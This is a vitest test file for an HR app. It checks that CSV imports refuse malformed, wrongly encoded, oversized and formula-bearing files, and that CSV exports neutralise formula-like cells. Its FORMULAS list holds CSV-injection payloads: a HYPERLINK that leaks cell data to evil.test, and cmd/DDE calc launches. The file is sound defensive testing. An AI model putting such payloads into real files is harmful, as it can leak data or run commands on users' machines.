import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { importCohortAction, previewCohortImportAction } from "@/app/(app)/hr/cohorts/import/actions";
import { GET as exportDashboard } from "@/app/(app)/hr/dashboard/export/route";
import { importFrameworkAction, previewFrameworkImportAction } from "@/app/(app)/hr/frameworks/actions";
import { importPeopleAction, previewPeopleImportAction } from "@/app/(app)/hr/people/import/actions";
import { GET as exportPeople } from "@/app/(app)/hr/people/export/route";
import { db } from "@/lib/db/client";
import { SECTIONS } from "@/lib/dashboard/tables";
import { FRAMEWORK_CSV_COLUMNS } from "@/lib/frameworks/interchange-csv";
import { expertToLeaderTemplate } from "@/lib/frameworks/starter-template";
import { PEOPLE_CSV_COLUMNS } from "@/lib/people/schemas";
import { COHORT_CSV } from "@/lib/inductions/enrolment-schemas";
import { buildConversation, buildFramework, buildInduction, buildInductionTemplate, buildPerson } from "@/tests/factories";
import { describeOutcome, invoke, refusal, type Outcome } from "@/tests/support/action-outcome";
import { changes, snapshotOrganisations } from "@/tests/support/database-snapshot";
import { signInAs } from "@/tests/support/session";
import { buildWorld, type World } from "@/tests/support/world";
import { download } from "./framework-helpers";

/**
 * Hostile CSV files against every import (people, cohort enrolment, framework), through the
 * actions the import pages call, and hostile names read back through every CSV export. Each
 * bad file is refused with a message that says what is wrong, and changes nothing anywhere;
 * each exported cell a spreadsheet would run as a formula starts with an apostrophe.
 */

type Action = (previous: unknown, payload: unknown) => Promise<unknown>;

/** The text a browser hands the page for a file of these bytes (FileReader and Blob.text() both decode UTF-8, replacing what is not). */
const asBrowserReads = (bytes: Uint8Array) => new TextDecoder("utf-8").decode(bytes);
const latin1 = (text: string) => Uint8Array.from([...text].map((character) => character.charCodeAt(0) & 0xff));
const utf16le = (text: string) => {
  const bytes = new Uint8Array(text.length * 2);
  [...text].forEach((character, index) => bytes.set([character.charCodeAt(0) & 0xff, character.charCodeAt(0) >> 8], index * 2));
  return bytes;
};
const FIFTY_MB = 50 * 1024 * 1024;

/** Cells spreadsheet programs run as formulas (OWASP's list): =, +, -, @, and a tab or carriage return before one. */
const FORMULAS = ['=HYPERLINK("http://evil.test/?leak="&A1,"Open")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

type Import = {
  name: string;
  /** The form field the file's text goes in, and any other field the actions need. */
  field: string;
  extra?: Record<string, string>;
  preview: Action;
  import: Action;
  header: string;
  /** A valid data row built around `cell` in its first text column. */
  row: (world: World, cell: string) => string;
  /** What a clear message about this file says. */
  wrongColumns: RegExp;
};

function importsOf(): Import[] {
  return [
    {
      name: "people import",
      field: "csv",
      preview: previewPeopleImportAction as Action,
      import: importPeopleAction as Action,
      header: PEOPLE_CSV_COLUMNS.join(","),
      row: (_world, cell) => `${quote(cell)},new.${Math.random().toString(36).slice(2, 8)}@example.test,,,`,
      wrongColumns: /Missing columns|header row/,
    },
    {
      name: "cohort import",
      field: "csv",
      preview: previewCohortImportAction as Action,
      import: importCohortAction as Action,
      header: COHORT_CSV.columns.join(","),
      row: (world, cell) => `${world.member.email},${quote(cell)},2027-01-04,${world.manager.email},`,
      wrongColumns: /Missing columns|header row/,
    },
    {
      name: "framework import",
      field: "file",
      extra: { name: "Hostile file" },
      preview: previewFrameworkImportAction as Action,
      import: importFrameworkAction as Action,
      header: FRAMEWORK_CSV_COLUMNS.join(","),
      row: (_world, cell) => `${quote(cell)},Listening,Hears people out,1,Listens before answering,Summarises what was said`,
      wrongColumns: /Unknown column|is missing|header row/,
    },
  ];
}

async function send(world: World, action: Action, form: Record<string, string>): Promise<{ outcome: Outcome; changed: string[] }> {
  const organisations = [world.organisation.id, world.foreignOrganisation.id];
  const before = await snapshotOrganisations(organisations);
  const data = new FormData();
  for (const [key, value] of Object.entries(form)) data.set(key, value);
  signInAs(world.hr);
  const outcome = await invoke(() => action(null, data));
  signInAs(null);
  return { outcome, changed: changes(before, await snapshotOrganisations(organisations)) };
}

/** Every message the refusal carries: the form's and the file field's (or the preview's row errors). */
function messagesOf(outcome: Outcome): string {
  const refused = refusal(outcome);
  if (refused) return [refused.message, ...Object.values(refused.fieldErrors ?? {}).flat()].join("\n");
  if (outcome.kind === "result" && typeof outcome.value === "object" && outcome.value !== null && "data" in outcome.value) {
    const rows = (outcome.value.data as { rows?: { errors: string[] }[] } | undefined)?.rows ?? [];
    return rows.flatMap((row) => row.errors).join("\n");
  }
  return "";
}

for (const kind of importsOf()) {
  describe(`${kind.name}: hostile files`, () => {
    const cases: { label: string; file: (world: World) => string; says: RegExp }[] = [
      { label: "wrong columns", file: () => "given_name,surname,mail\nAnn,Lee,ann@example.test\n", says: kind.wrongColumns },
      { label: "one column missing", file: (world) => `${kind.header.split(",").slice(1).join(",")}\n${kind.row(world, "x").split(",").slice(1).join(",")}\n`, says: kind.wrongColumns },
      { label: "an empty file", file: () => "", says: /empty/i },
      { label: "only blank lines and spaces", file: () => " \r\n\r\n  \n", says: /empty/i },
      { label: "only a byte order mark", file: () => "\uFEFF", says: /empty/i },
      { label: "a header and no rows", file: () => `${kind.header}\n`, says: /no |empty|at least/i },
      { label: "Latin-1 bytes (not UTF-8)", file: (world) => asBrowserReads(latin1(`${kind.header}\n${kind.row(world, "Zoë Müller")}\n`)), says: /UTF-8/ },
      { label: "UTF-16 without a byte order mark", file: (world) => asBrowserReads(utf16le(`${kind.header}\n${kind.row(world, "Ann Lee")}\n`)), says: /UTF-8/ },
      { label: "UTF-16 with a byte order mark", file: (world) => asBrowserReads(new Uint8Array([0xff, 0xfe, ...utf16le(`${kind.header}\n${kind.row(world, "Ann Lee")}\n`)])), says: /UTF-8/ },
      { label: "a 50 MB file", file: (world) => `${kind.header}\n${kind.row(world, "x".repeat(FIFTY_MB))}\n`, says: /larger than \d+ MB/ },
      { label: "a 50 MB file of many rows", file: (world) => `${kind.header}\n${`${kind.row(world, "Ann Lee")}\n`.repeat(Math.ceil(FIFTY_MB / 80))}`, says: /larger than \d+ MB/ },
    ];

    for (const { label, file, says } of cases) {
      it(`refuses ${label} with a clear message, writing nothing`, async () => {
        const world = await buildWorld();
        const text = file(world);
        for (const action of [kind.preview, kind.import]) {
          const { outcome, changed } = await send(world, action, { [kind.field]: text, ...kind.extra });
          expect(refusal(outcome), describeOutcome(outcome)).not.toBeNull();
          expect(messagesOf(outcome), describeOutcome(outcome)).toMatch(says);
          expect(messagesOf(outcome)).not.toMatch(/Something went wrong/);
          expect(changed).toEqual([]);
        }
      });
    }

    it("refuses each cell a spreadsheet would run as a formula, naming it, and writes nothing", async () => {
      const world = await buildWorld();
      for (const formula of FORMULAS) {
        const text = `${kind.header}\r\n${kind.row(world, formula)}\r\n`;
        const preview = await send(world, kind.preview, { [kind.field]: text, ...kind.extra });
        expect(messagesOf(preview.outcome), `preview of ${JSON.stringify(formula)}: ${describeOutcome(preview.outcome)}`).toMatch(/formula/);
        expect(preview.changed).toEqual([]);
        const imported = await send(world, kind.import, { [kind.field]: text, ...kind.extra });
        expect(refusal(imported.outcome), `import of ${JSON.stringify(formula)}: ${describeOutcome(imported.outcome)}`).not.toBeNull();
        expect(imported.changed, `import of ${JSON.stringify(formula)}`).toEqual([]);
      }
    });
  });
}

// ---------------------------------------------------------------------------------

/** A cell a spreadsheet would run: starts like a formula and is not a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

describe("CSV exports: hostile names come out as text", () => {
  it("every export route neutralises every formula-like cell with an apostrophe", async () => {
    const world = await buildWorld();
    const organisationId = world.organisation.id;
    const [manager, report, title, cohortName, phaseName, competency] = FORMULAS;
    if (!manager || !report || !title || !cohortName || !phaseName || !competency) throw new Error("FORMULAS is too short");

    // A manager and a report with hostile names and a career conversation (coverage by manager).
    const hostileManager = await buildPerson(db, organisationId, { name: manager, roles: ["MANAGER"], jobRoleId: world.leaderRole.id });
    const hostileReport = await buildPerson(db, organisationId, { name: report, roles: ["LEADER"], managerId: hostileManager.id, jobRoleId: world.leaderRole.id });
    await db.jobRole.update({ where: { id: world.leaderRole.id }, data: { title } });
    await buildConversation(db, organisationId, { personId: hostileReport.id, managerId: hostileManager.id });
    // An induction in a hostile cohort, with a hostile phase name (progress by phase).
    const cohort = await db.cohort.create({ data: { organisationId, name: cohortName } });
    const { template } = await buildInductionTemplate(db, organisationId, { jobRoleId: world.leaderRole.id });
    const induction = await buildInduction(db, organisationId, { personId: hostileReport.id, jobRoleId: world.leaderRole.id, managerId: hostileManager.id, templateId: template.id, cohortId: cohort.id });
    await db.inductionPhase.updateMany({ where: { inductionId: induction.id }, data: { name: phaseName } });
    // A published framework with a hostile competency name and indicator.
    const content = expertToLeaderTemplate();
    const first = content.clusters[0]?.competencies[0];
    if (!first) throw new Error("The template has no competency");
    first.name = competency;
    const indicator = first.expectations.find((expectation) => expectation.indicators.length > 0)?.indicators[0];
    if (indicator) indicator.text = report;
    const framework = await buildFramework(db, organisationId, { status: "PUBLISHED", content: { ...content, name: "Hostile framework" } });

    signInAs(world.hr);
    const exports: [string, string][] = [
      ["people", await (await exportPeople(new Request("http://localhost/hr/people/export?status=all"))).text()],
      ["framework CSV", (await download(framework.framework.id, 1, "csv")).body],
    ];
    for (const section of SECTIONS) {
      const response = await exportDashboard(new Request(`http://localhost/hr/dashboard/export?section=${section}`));
      expect(response.status, section).toBe(200);
      exports.push([`dashboard ${section}`, await response.text()]);
    }
    signInAs(null);

    const seen = new Set<string>();
    for (const [name, csv] of exports) {
      const cells = cellsOf(csv);
      expect(cells.filter(runnable), `${name} export has cells a spreadsheet would run`).toEqual([]);
      // Names are stored trimmed, so a leading tab or carriage return may be gone by the time they are exported.
      for (const formula of FORMULAS) if (cells.includes(`'${formula}`) || cells.includes(`'${formula.trim()}`)) seen.add(formula);
    }
    // Each hostile value was exported somewhere (so the check above read it), as text.
    expect([...seen].sort()).toEqual([...FORMULAS].sort());
  });
});
